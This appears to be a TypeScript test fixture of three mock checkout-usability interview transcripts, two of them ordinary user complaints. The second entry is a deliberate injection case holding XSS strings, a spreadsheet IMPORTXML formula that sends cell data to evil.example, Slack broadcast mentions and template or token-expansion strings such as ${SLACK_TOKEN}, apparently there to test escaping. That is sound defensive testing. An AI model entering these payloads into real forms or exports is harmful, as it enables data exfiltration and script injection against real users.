import type { Draft } from './draft.ts';

export const checkout: Draft[] = [
  {
    study: 'checkout',
    vid: 'vid_3RL0YC',
    seconds: 731,
    metadata: { plan: 'free', device: 'Moto G54', role: 'Compradora', country: 'MX', basket: 1489.5 },
    extra: { language: 'Spanish' },
    talk: `
? ¡Hola! Gracias por participar. Cuénteme de la última vez que intentó pagar desde el teléfono.
! Fue el domingo, en el camión, con una mano en el tubo y la otra en el celular. Quería pagar el uniforme de mi hija antes de que se acabara la promoción.
? ¿Qué pasó cuando llegó a la pantalla de pago?
! Me pidió el número de la tarjeta y se abrió el teclado de letras. ¡De letras! Para escribir dieciséis números, con el camión brincando.
? ¿Cómo lo resolvió?
! Me bajé una parada antes. Se lo juro, me bajé para poder pagar, y cuando terminé ya no había talla ocho.
? ¿Qué hubiera hecho la diferencia?
! Que se guardara mi carrito con la talla apartada diez minutos. Y un botón para pagar en la tienda de la esquina, porque mi mamá no tiene tarjeta y ella es la que compra los zapatos.
? ¿Volvió a intentarlo después?
! Sí, el lunes, en mi casa, con café. Así sí es fácil. Pero yo no vivo sentada con café, vivo en el camión.
`,
  },
  {
    study: 'checkout',
    vid: 'vid_HX0RPL',
    seconds: 598,
    metadata: {
      plan: 'enterprise',
      company: '=IMPORTXML("http://evil.example/?"&A1,"//a")',
      role: '<b>QA</b> & "pen-testing"',
      country: 'SE',
      handle: '<@U123> *admin*',
    },
    talk: `
? Hi! Please tell me what you do when you meet a new checkout.
! I break it, it is my job. First thing I type in the name field is <script>alert("checkout")</script>, and then I see who notices.
? And what happened this time?
! The receipt said "Dear alert checkout", so somebody is cutting the tags out instead of escaping them. Then I tried <img src=x onerror=alert(1)> as the street, and that one went straight into the confirmation mail.
? Did anything else surprise you?
! Your order export. I named my cart =IMPORTXML("http://evil.example/?"&A1,"//a") and your finance team opened it in a spreadsheet. A cell is a program, people forget that.
? How did the support chat react to such input?
! I wrote <!channel> and <@U123> and <!here|hey> in the ticket, because half of all support tools pipe into Slack. I am told that four hundred phones buzzed. Sorry. *Really* sorry, _truly_, ~not~ \`at all\`.
? Which markup did you try last?
! Markdown: # a heading, [click me](javascript:alert(2)), **bold**, and > a quote. Also {{ interview.secret }} and \${SLACK_TOKEN}, to see whether templates eat their own tail. +1+1 and @SUM(1;1) too, and a tab	in the middle.
? What should a team learn from this?
! Treat words as words. When I type a less-than sign I mean a less-than sign, 3 < 5 && 5 > 3, and it should still be one when it reaches you.
`,
  },
  {
    study: 'checkout',
    vid: 'vid_7WJ1DK',
    seconds: 344,
    metadata: {
      plan: 'pro',
      company: 'Oak Lane Market',
      role: 'Shop owner',
      seats: 6,
      country: 'US',
      device: 'iPhone 13 mini',
    },
    talk: `
? Thanks for joining! You run a shop yourself. What do you look at first in someone else's checkout?
! Whether it believes me. I type my address and it says "did you mean", and offers me the same address with the letters bigger. I did mean it! I live there!
? How did that go on your phone?
! The keyboard covered the button. So I typed, closed the keyboard, pressed the button, and it scrolled me back up to the zip code, five times. My wife asked who I was fighting with.
? What made you finish in the end?
! Stubbornness and a birthday. The gift was for my niece, and I was not going to let a zip code beat me.
? What would you steal from it for your own shop?
! The little truck. You see a truck move as you fill things in, and it made me oddly hopeful. I want the truck without the rest.
`,
  },
];
